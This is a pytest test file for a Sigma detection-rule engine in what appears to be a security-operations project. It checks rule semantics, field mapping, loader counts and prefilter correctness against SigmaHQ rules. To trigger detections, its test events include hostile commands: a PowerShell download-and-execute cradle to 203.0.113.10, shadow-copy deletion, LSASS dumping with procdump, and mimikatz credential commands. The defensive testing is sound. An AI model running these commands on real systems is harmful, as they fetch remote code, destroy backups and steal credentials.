"""The SigmaHQ second opinion: Sigma semantics on hand-written rules, the loader's counts on the pinned snapshot in
../shared/data/sigmahq, hand-written events against the real rules, the prefilter against brute force, and the
corpus of events synthesised from the rules."""

from __future__ import annotations

import base64
import random
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter
from support import REPO

from opensoc.adjudication import sigmahq as S
from opensoc.generator import generate
from opensoc.schema import Event

pytestmark = pytest.mark.slow  # loading the 3,754 rules and writing the corpus take several seconds

SIGMAHQ = REPO.parent / "shared" / "data" / "sigmahq"
SHADOW_COPY_DELETION = "c947b146-0abc-4c87-9c64-b17e9d7274a2"  # 'Shadow Copies Deletion Using Operating Systems ...'
EVENT = TypeAdapter(Event)
BASE = {"log_id": "L1-0", "timestamp": "2026-03-02T09:00:00Z", "host": "FIN-WS01", "user": "alice.chen"}


def _rule_files() -> list[Path]:
    return sorted(p for folder in S.RULE_FOLDERS for p in (SIGMAHQ / folder).rglob("*.yml"))


@pytest.fixture(scope="module")
def ruleset() -> S.SigmaRuleSet:
    if not (SIGMAHQ / "PROVENANCE.md").is_file():
        pytest.skip("../shared/data/sigmahq (the SigmaHQ rule snapshot) is not present")
    return S.load_rules(SIGMAHQ)


@pytest.fixture(scope="module")
def corpus(ruleset):
    from opensoc.audit.sigma_corpus import build_corpus

    return build_corpus(ruleset)


def process(command: str | None = None, name: str | None = None, log_id: str = "L1-0", **extra) -> dict:
    event = dict(BASE, log_id=log_id, event_type="process_start", source=extra.pop("source", "sysmon"), **extra)
    if name is not None:
        event["process.name"] = name
    if command is not None:
        event["process.command_line"] = command
    return event


def one_rule(detection: dict, logsource: dict | None = None, **meta) -> S.SigmaRuleSet:
    doc = {"title": meta.pop("title", "test rule"), "id": meta.pop("id", "00000000-0000-0000-0000-000000000001"),
           "author": meta.pop("author", "Test Author"), "level": "high",
           "logsource": logsource or {"product": "windows", "category": "process_creation"}, "detection": detection}
    return S.SigmaRuleSet(rules=(S.compile_rule(doc, "rules/test.yml"),), skipped=Counter())


def hit(rules: S.SigmaRuleSet, event: dict) -> bool:
    indexed = bool(rules.matches([event]))
    assert indexed == bool(rules.matches([event], brute_force=True))
    return indexed


# ------------------------------------------------------------------------------ Sigma semantics, no snapshot needed


def test_strings_match_case_insensitively_unless_cased():
    rules = one_rule({"sel": {"CommandLine|contains": "Delete Shadows"}, "condition": "sel"})
    assert hit(rules, process("VSSADMIN DELETE SHADOWS /all"))
    cased = one_rule({"sel": {"CommandLine|contains|cased": "Delete Shadows"}, "condition": "sel"})
    assert not hit(cased, process("vssadmin delete shadows /all"))
    assert hit(cased, process("vssadmin Delete Shadows /all"))


def test_image_of_a_bare_name_keeps_endswith_meaning():
    rules = one_rule({"sel": {"Image|endswith": "\\vssadmin.exe"}, "condition": "sel"})
    assert hit(rules, process(name="vssadmin.exe"))
    assert hit(rules, process(**{"process.executable": "C:\\Windows\\System32\\vssadmin.exe"}))
    assert not hit(rules, process(name="notvssadmin.exe"))


def test_wildcards_and_field_names_are_case_insensitive():
    rules = one_rule({"sel": {"commandline": "*shadow?copy*delete"}, "condition": "sel"})
    assert hit(rules, process("wmic SHADOW-COPY delete"))
    assert not hit(rules, process("wmic shadowcopy delete"))  # '?' is exactly one character
    assert not hit(rules, process("wmic shadow copy delete now"))  # a full match, not a search


def test_absent_fields_follow_sigma():
    value = one_rule({"sel": {"OriginalFileName": "x.exe"}, "condition": "not sel"})
    assert hit(value, process("x"))  # a value match on an absent field is false, so its negation is true
    null = one_rule({"sel": {"OriginalFileName": None}, "condition": "sel"})
    assert hit(null, process("x"))
    assert not hit(null, process("x", **{"process.pe.original_file_name": "x.exe"}))
    exists = one_rule({"sel": {"OriginalFileName|exists": True}, "condition": "sel"})
    assert not hit(exists, process("x"))
    assert hit(exists, process("x", **{"process.pe.original_file_name": "x.exe"}))


def test_condition_operators():
    rules = one_rule({
        "selection_img": {"Image|endswith": ["\\a.exe", "\\b.exe"]},
        "selection_cli": {"CommandLine|contains|all": ["one", "two"]},
        "filter_main": {"ParentImage|endswith": "\\good.exe"},
        "condition": "(1 of selection_*) and not 1 of filter_*",
    })
    assert hit(rules, process(name="a.exe"))
    assert hit(rules, process("two and one"))
    assert not hit(rules, process("one only"))
    assert not hit(rules, process(name="b.exe", **{"process.parent.name": "good.exe"}))
    both = one_rule({"selection_a": {"Image|endswith": "\\a.exe"}, "selection_b": {"CommandLine|contains": "x"},
                     "condition": "all of them"})
    assert hit(both, process("x", name="a.exe")) and not hit(both, process("y", name="a.exe"))


def test_keywords_match_any_value():
    rules = one_rule({"keywords": ["sekurlsa::", "kerberos::golden"], "condition": "keywords"},
                     logsource={"product": "windows"})
    assert hit(rules, process("mimikatz.exe sekurlsa::logonpasswords"))
    assert hit(rules, dict(BASE, event_type="registry_set", source="sysmon",
                           **{"registry.path": "HKLM\\x", "registry.data.strings": "KERBEROS::GOLDEN /user:x"}))
    assert not hit(rules, process("whoami"))


def test_modifiers_after_pysigma():
    windash = one_rule({"sel": {"CommandLine|windash|contains": " -enc "}, "condition": "sel"})
    assert hit(windash, process("powershell /enc AAAA")) and hit(windash, process("powershell \u2013enc AAAA"))
    b64 = one_rule({"sel": {"CommandLine|base64offset|contains": "IEX"}, "condition": "sel"})
    for prefix in ("", "a", "ab"):
        encoded = base64.b64encode((prefix + "IEX (x)").encode()).decode()
        assert hit(b64, process(f"powershell -e {encoded}"))
    regex = one_rule({"sel": {"CommandLine|re": r"\\[a-z]{2}\.exe$"}, "condition": "sel"})
    assert hit(regex, process("C:\\x\\ab.exe")) and not hit(regex, process("C:\\x\\AB.exe"))  # |re is cased
    regex_i = one_rule({"sel": {"CommandLine|re|i": r"\\[a-z]{2}\.exe$"}, "condition": "sel"})
    assert hit(regex_i, process("C:\\x\\AB.exe"))
    net = {"product": "windows", "category": "network_connection"}
    flow = dict(BASE, event_type="network_connection", source="sysmon", **{
        "source.ip": "10.10.1.11", "source.port": 50000, "destination.ip": "198.51.100.7", "destination.port": 4444,
        "network.transport": "tcp", "process.name": "rundll32.exe"})
    cidr = one_rule({"sel": {"DestinationIp|cidr": "198.51.100.0/24", "Initiated": "true"}, "condition": "sel"},
                    logsource=net)
    assert hit(cidr, flow) and not hit(cidr, dict(flow, **{"destination.ip": "203.0.113.1"}))
    compare = one_rule({"sel": {"DestinationPort|gt": 1024}, "condition": "sel"}, logsource=net)
    assert hit(compare, flow) and not hit(compare, dict(flow, **{"destination.port": 443}))
    number = one_rule({"sel": {"DestinationPort": 4444}, "condition": "sel"}, logsource=net)
    assert hit(number, flow)


def test_unsupported_modifier_is_a_skip_reason():
    with pytest.raises(S.UnsupportedRule, match="unsupported modifier expand"):
        one_rule({"sel": {"Image|expand": "%AppData%\\x.exe"}, "condition": "sel"})


def test_describe_names_the_author():
    rules = one_rule({"sel": {"CommandLine|contains": "x"}, "condition": "sel"}, title="A Rule",
                     author="Jane Doe, John Roe")
    (h,) = rules.matches([process("x", log_id="L7-3")])
    assert S.describe(h) == "SigmaHQ 'A Rule' (high, by Jane Doe, John Roe) matches L7-3"
    assert h.log_ids == ("L7-3",) and h.path == "rules/test.yml"


# ----------------------------------------------------------------------------------------------- the field mapping


@pytest.mark.parametrize("command", [
    "powershell.exe -enc {b}", "powershell.exe -e {b}", "powershell.exe -ec {b}",
    "powershell.exe /EncodedCommand {b}", "powershell.exe -nop -w hidden -encodedc {b}", "pwsh.exe \u2013enc \"{b}\"",
    "powershell -ExecutionPolicy Bypass -en {b}",
])
def test_encoded_command_becomes_a_script_block(command):
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    rows = S.event_rows(process(command.format(b=encoded), name="powershell.exe"))
    assert rows[-1] == (("windows", "ps_script", None), {"ScriptBlockText": script})


@pytest.mark.parametrize("command", [
    "powershell.exe -enc not-base64!", "powershell.exe -c Write-Host -enc {b}", "powershell.exe -ex {b}",
    "powershell.exe Get-Date -enc {b}",
])
def test_no_script_block_without_a_decodable_encoded_command(command):
    encoded = base64.b64encode("whoami".encode("utf-16-le")).decode()
    rows = S.event_rows(process(command.format(b=encoded), name="powershell.exe"))
    assert [source for source, _ in rows] == [("windows", "process_creation", None)]
    rows = S.event_rows(process(f"cmd.exe /c -enc {encoded}", name="cmd.exe"))  # not PowerShell
    assert [source for source, _ in rows] == [("windows", "process_creation", None)]


def test_mapping_rows():
    notepad = process("notepad.exe C:\\notes.txt", name="notepad.exe", **{"process.parent.name": "explorer.exe"})
    (row,) = S.event_rows(notepad)
    assert row[1] == {"Image": "\\notepad.exe", "CommandLine": "notepad.exe C:\\notes.txt",
                      "ParentImage": "\\explorer.exe", "User": "alice.chen"}
    registry = dict(BASE, event_type="registry_set", source="sysmon", **{
        "registry.path": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Run\\x", "registry.data.strings": "x.exe"})
    spellings = {(source[1], row["TargetObject"]) for source, row in S.event_rows(registry)}
    assert spellings == {(c, p) for c in ("registry_set", "registry_event")
                         for p in ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Run\\x", "HKLM\\SOFTWARE\\Run\\x")}
    logon = dict(BASE, event_type="authentication", source="windows_security",
                 **{"event.outcome": "failure", "source.ip": "10.10.1.12"})
    assert S.event_rows(logon)[0][1] == {"EventID": "4625", "TargetUserName": "alice.chen", "IpAddress": "10.10.1.12"}
    mail = dict(BASE, event_type="email_received", source="email_gateway", **{
        "email.from.address": "a@b.c", "email.to.address": "alice.chen@corp.example", "email.subject": "hi",
        "email.authentication.spf": "pass", "email.authentication.dmarc": "pass"})
    assert S.event_rows(mail) == []
    assert set(S.ROWS) == set(S._SPECS) and "email_received" in S.ROWS


def test_rules_path_from_the_environment(monkeypatch, tmp_path):
    monkeypatch.delenv(S.ENV_VAR, raising=False)
    assert S.rules_path() is None
    monkeypatch.setenv(S.ENV_VAR, str(tmp_path / "missing"))
    with pytest.raises(ValueError, match=f"{S.ENV_VAR}.*not a folder"):
        S.rules_path()
    (tmp_path / "rules").mkdir()
    monkeypatch.setenv(S.ENV_VAR, str(tmp_path))
    with pytest.raises(ValueError, match=f"{S.ENV_VAR}.*no Sigma rule files"):
        S.rules_path()
    (tmp_path / "rules" / "r.yml").write_text("title: x\n")
    assert S.rules_path() == tmp_path
    with pytest.raises(ValueError, match="does not exist"):
        S.load_rules(tmp_path / "missing")


# ------------------------------------------------------------------------------------------------ the real rules


def test_loader_counts_add_up(ruleset):
    files = _rule_files()
    assert len(files) == 3754
    assert ruleset.kept + sum(ruleset.skipped.values()) == len(files)
    assert {r.level for r in ruleset.rules} == {"high", "critical"}
    levels = Counter(r.split(" ", 1)[1] for r in ruleset.skipped if r.startswith("level "))
    assert set(levels) == {"low", "medium", "informational"}
    assert ruleset.skipped["logsource not modelled: product=aws service=cloudtrail"] > 0
    assert all(r.startswith(("level ", "logsource not modelled: ", "unsupported ", "parse error: ", "correlation"))
               for r in ruleset.skipped)
    assert ruleset.by_logsource()["product=windows category=process_creation"] > 700
    assert len({r.rule_id for r in ruleset.rules}) == ruleset.kept


def test_shadow_copy_deletion_matches(ruleset):
    hits = ruleset.matches([process("vssadmin delete shadows /all /quiet", name="vssadmin.exe")])
    assert SHADOW_COPY_DELETION in {h.rule_id for h in hits}
    (h,) = [h for h in hits if h.rule_id == SHADOW_COPY_DELETION]
    assert h.title == "Shadow Copies Deletion Using Operating Systems Utilities" and "Florian Roth" in S.describe(h)
    assert h.path == "rules/windows/process_creation/proc_creation_win_susp_shadow_copies_deletion.yml"
    assert "attack.t1490" in h.tags


def test_hand_written_events(ruleset):
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    events = [
        process(f"powershell.exe -nop -w hidden -enc {encoded}", name="powershell.exe", log_id="P1",
                **{"process.parent.name": "WINWORD.EXE"}),
        process("procdump.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp", name="procdump.exe", log_id="P2"),
        process("notepad.exe C:\\notes.txt", name="notepad.exe", log_id="N1",
                **{"process.executable": "C:\\Windows\\System32\\notepad.exe", "process.parent.name": "explorer.exe"}),
        dict(BASE, log_id="R1", event_type="registry_set", source="sysmon", **{
            "registry.path": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
            "registry.data.strings": "C:\\Users\\Public\\updater.exe", "process.name": "reg.exe"}),
        dict(BASE, log_id="A1", event_type="authentication", source="windows_security",
             **{"event.outcome": "success", "winlog.logon.type": 3, "source.ip": "198.51.100.7"}),
        dict(BASE, log_id="A2", event_type="authentication", source="windows_security",
             **{"event.outcome": "success", "winlog.logon.type": 3, "source.ip": "10.10.1.12"}),
        dict(BASE, log_id="D1", event_type="dns_query", source="zeek_dns", **{
            "source.ip": "10.10.1.11", "destination.ip": "10.10.0.53", "dns.question.name": "www.microsoft.com",
            "dns.question.type": "A", "dns.response_code": "NOERROR"}),
    ]
    hits = ruleset.matches(events)
    by_event: dict[str, set[str]] = {}
    for h in hits:
        by_event.setdefault(h.log_ids[0], set()).add(h.title)
    assert "PowerShell Base64 Encoded IEX Cmdlet" in by_event["P1"]
    assert "Suspicious Microsoft Office Child Process" in by_event["P1"]
    assert any(h.log_ids == ("P1",) and "powershell_script" in h.path for h in hits)  # the decoded script block
    assert "Potential LSASS Process Dump Via Procdump" in by_event["P2"]
    assert "New RUN Key Pointing to Suspicious Folder" in by_event["R1"]
    assert by_event["A1"] == {"External Remote SMB Logon from Public IP"}
    assert not {"N1", "A2", "D1"} & set(by_event)  # a text editor, an internal logon, a common lookup: nothing high
    assert [h.log_ids[0] for h in hits] == sorted((h.log_ids[0] for h in hits), key=[e["log_id"] for e in events].index)


def test_generated_incidents_indexed_equals_brute_force(ruleset):
    for seed in range(60):
        events = generate("stage3_mixed", seed).events
        assert ruleset.matches(events) == ruleset.matches(events, brute_force=True)


def test_corpus_events_match_their_own_rule(ruleset, corpus):
    assert [item.rule_id for item in corpus.items] == sorted(item.rule_id for item in corpus.items)
    assert len(corpus.items) + len(corpus.unwritten) == ruleset.kept
    for item in corpus.items:
        event = EVENT.validate_python(item.event)
        assert (event.host, event.timestamp) == ("FIN-WS01", "2026-03-02T09:00:00Z")
        hits = ruleset.matches([event])
        assert item.rule_id in {h.rule_id for h in hits}, item.title
        assert hits == ruleset.matches([event], brute_force=True), item.title
    yields = corpus.yield_by_logsource()
    got, total = yields["product=windows category=process_creation"]
    assert total == 771 and got > 0.85 * total
    assert yields["product=windows category=registry_set"][0] > 0.9 * yields["product=windows category=registry_set"][1]
    assert all(reason for reason in corpus.unwritten.values())


def test_corpus_is_deterministic(ruleset, corpus):
    from opensoc.audit.sigma_corpus import synthesise

    sample = random.Random(7).sample(corpus.items, 40)
    for item in sample:
        assert synthesise(ruleset.rule(item.rule_id), ruleset).event == item.event


# ------------------------------------------------------------------------ the prefilter never drops a matching rule


def test_prefilter_keeps_every_rule_on_every_branch(ruleset):
    """For every rule, an event written from each of its condition's conjunctions (up to 16): wherever the rule
    matches, the prefilter has it among the rules it evaluates."""
    from opensoc.audit.sigma_corpus import branch_events

    checked = 0
    for index, rule in enumerate(ruleset.rules):
        for event in branch_events(rule, ruleset, 16):
            if ruleset.rule_matches(rule, event):
                checked += 1
                assert index in ruleset.candidate_rules(event), (rule.path, event)
    assert checked > 5 * ruleset.kept


def _pieces(ruleset: S.SigmaRuleSet) -> list[str]:
    """Literal pieces of the rules' string matches: the values most likely to make a rule match."""
    pieces = set()
    stack = [r.tree for r in ruleset.rules]
    while stack:
        node = stack.pop()
        if node[0] in ("and", "or"):
            stack.extend(node[1])
        elif node[0] == "not":
            stack.append(node[1])
        elif node[0] in ("m", "k") and node[-2] in ("eq", "sw", "ew", "in", "all", "eqc", "swc", "ewc", "inc"):
            pieces.update(node[-1])
    return sorted(pieces)


@pytest.fixture(scope="module")
def pieces(ruleset) -> list[str]:
    return _pieces(ruleset)


def _mutate(text: str, how: int) -> str:
    return [text, text.upper(), text.title(), text.replace("-", "/"), text[1:], text[:-1], " " + text + " "][how % 7]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
@given(data=st.data())
def test_indexed_equals_brute_force(ruleset, corpus, pieces, data):
    """Events built from the rules' own values (an event written from any branch of a rule's condition, with
    fields replaced by random pieces of any rules' values, re-cased, truncated or joined): the prefiltered
    evaluation finds exactly what evaluating every rule finds."""
    pick = st.sampled_from(pieces)
    text = st.lists(st.tuples(pick, st.integers(0, 6)), min_size=0, max_size=4).map(
        lambda xs: " ".join(_mutate(p, h) for p, h in xs)[:1000])
    from opensoc.audit.sigma_corpus import branch_events

    rule = data.draw(st.sampled_from(ruleset.rules))
    branches = branch_events(rule, ruleset, 8) or [EVENT.validate_python(data.draw(st.sampled_from(corpus.items)).event)]
    base = data.draw(st.sampled_from(branches)).model_dump(exclude_none=True)
    kind = base["event_type"]
    fields = {"process_start": ["process.command_line", "process.name", "process.parent.name",
                                "process.pe.original_file_name", "process.executable", "user"],
              "process_access": ["winlog.event_data.TargetImage", "process.name"],
              "registry_set": ["registry.path", "registry.data.strings", "process.name"],
              "file_activity": ["file.path", "process.name"],
              "dns_query": ["dns.question.name"],
              "http_request": ["url.path", "url.domain", "user_agent.original"],
              "network_connection": ["process.name"],
              "authentication": ["user"], "group_membership_change": ["group.name", "user.target.name"]}[kind]
    for name in data.draw(st.lists(st.sampled_from(fields), max_size=3, unique=True)):
        value = data.draw(text)
        limit = 64 if name in ("process.name", "process.parent.name", "process.pe.original_file_name", "user",
                               "group.name", "user.target.name") else 250
        value = value[:limit].strip() or "x"
        base[name] = value.replace(" ", "") if name == "dns.question.name" else value
    try:
        event = EVENT.validate_python(base)
    except Exception:  # noqa: BLE001 - a draw the schema refuses says nothing about the prefilter
        return
    assert ruleset.matches([event]) == ruleset.matches([event], brute_force=True)
